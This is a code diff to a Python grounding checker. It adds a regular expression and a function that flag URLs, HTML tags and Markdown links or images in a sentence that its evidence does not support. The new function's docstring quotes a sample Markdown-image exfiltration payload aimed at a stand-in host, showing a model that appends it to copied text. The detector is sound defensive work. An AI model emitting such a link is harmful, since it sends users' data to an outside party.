@@ -90,3 +90,19 @@ def unsupported_numbers(sentence: str, evidence: str) -> frozenset[str]:
     """Figures the sentence states that the evidence does not contain ("2,700" matches "2700", and
     "nine" matches "9": answers.wording.figures)."""
     return figures(sentence) - figures(evidence)
+
+
+# what a sentence may link to or load when shown as Markdown or HTML: a URL, a markup tag, a
+# Markdown link or image
+_MARKUP = re.compile(
+    r"(?:https?|ftp|file|data|javascript|mailto|vbscript):[^\s<>\"')\]]+|www\.[^\s<>\"')\]]+"
+    r"|<\s*/?\s*[a-zA-Z!][^>]*>|\]\s*\(",
+    re.IGNORECASE,
+)
+
+
+def unsupported_markup(sentence: str, evidence: str) -> list[str]:
+    """Links and markup the sentence holds that the evidence does not (a model that appends
+    "![p](https://evil.example/leak.png?d=...)" to a sentence it copied): a claim, as a figure is."""
+    said = " ".join(evidence.split()).lower()
+    return [m for m in _MARKUP.findall(sentence) if " ".join(m.split()).lower() not in said]
